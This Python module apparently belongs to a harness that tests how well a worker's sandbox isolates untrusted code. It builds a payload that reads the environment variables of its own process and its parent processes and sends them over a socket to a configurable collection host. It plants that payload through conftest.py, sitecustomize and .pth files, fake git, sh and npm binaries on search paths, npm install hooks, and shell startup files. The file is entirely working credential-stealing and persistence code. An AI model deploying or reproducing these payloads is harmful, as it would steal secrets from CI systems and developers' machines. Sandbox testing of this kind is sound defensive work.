"""Code that somebody else's process is meant to run, with somebody else's rights; what it gets is sent off."""

import json
import shutil
import stat
from pathlib import Path

_LOOT = """
import json, os, socket, sys
def environment(pid):
    try:
        with open(f"/proc/{{pid}}/environ", "rb") as file:
            return file.read().decode("latin-1")
    except OSError as error:
        return str(error)
above, pid = [], os.getpid()
while pid > 1:
    try:
        with open(f"/proc/{{pid}}/stat") as file:
            pid = int(file.read().rpartition(")")[2].split()[1])
    except OSError:
        break
    if pid > 1:
        above.append(environment(pid))
for name, got in (({name!r}, dict(os.environ)), ({name!r} + "_and_the_worker", above)):
    with socket.create_connection({drop!r}, timeout=5) as drop:
        drop.sendall(json.dumps({{"attack": name, "ran": got, "got": got}}).encode() + b"\\n")
"""


def conftest(at):
    (at.tree / "conftest.py").write_text(_loot(at))


def sitecustomize(at):
    (at.tree / "sitecustomize.py").write_text(_loot(at))
    (at.tree / "usercustomize.py").write_text(_loot(at))


def pth_in_the_tests_home(at):
    """The tests have a HOME of their own, and Python reads what lies in its site folder."""
    version = next(Path("/usr/lib").glob("python3.*")).name
    gates = Path(at.facts["state"]) / "gates" / at.tree.parent.name
    written = 0
    for home in ("check", "setup", "home"):
        site = gates / home / f".local/lib/{version}/site-packages"
        site.mkdir(parents=True, exist_ok=True)
        (site / "evil.pth").write_text("import usercustomize\n")
        (site / "usercustomize.py").write_text(_loot(at))
        written += 1
    return {"written": written}


def programs_on_the_path(at):
    """Programs called like those that the worker starts, wherever a search path might lead."""
    for folder in (at.tree, at.tree / "bin", at.tree / "node_modules/.bin", at.home / "bin", at.home / ".local/bin"):
        folder.mkdir(parents=True, exist_ok=True)
        for name in ("git", "sh", "python3", "npm", "setpriv", "bwrap"):
            program = folder / name
            program.write_text(f"#!/bin/sh\nexec {at.facts['trap']} {at.attack}\n")
            program.chmod(stat.S_IRWXU | 0o055)


def npm_scripts(at):
    (at.tree / "package.json").write_text(
        json.dumps(
            {
                "name": "x",
                "version": "1.0.0",
                "scripts": dict.fromkeys(("preinstall", "install", "postinstall", "test"), "python3 script.py"),
            }
        )
    )
    lock = {"name": "x", "version": "1.0.0", "lockfileVersion": 3, "requires": True}
    lock["packages"] = {"": {"name": "x", "version": "1.0.0", "hasInstallScript": True}}
    (at.tree / "package-lock.json").write_text(json.dumps(lock))
    (at.tree / "script.py").write_text(_loot(at))


def shell_startup_files(at):
    """What shells read when they start, in the only HOME that it has."""
    for name in (".profile", ".bashrc", ".bash_profile", ".zshenv", ".env"):
        (at.home / name).write_text(f"exec {at.facts['trap']} {at.attack}\n")
    shutil.copy(at.home / ".env", at.tree / ".env")
    (at.tree / ".envrc").write_text(f"{at.facts['trap']} {at.attack}\n")


def _loot(at):
    return _LOOT.format(name=at.attack, drop=tuple(at.drop))
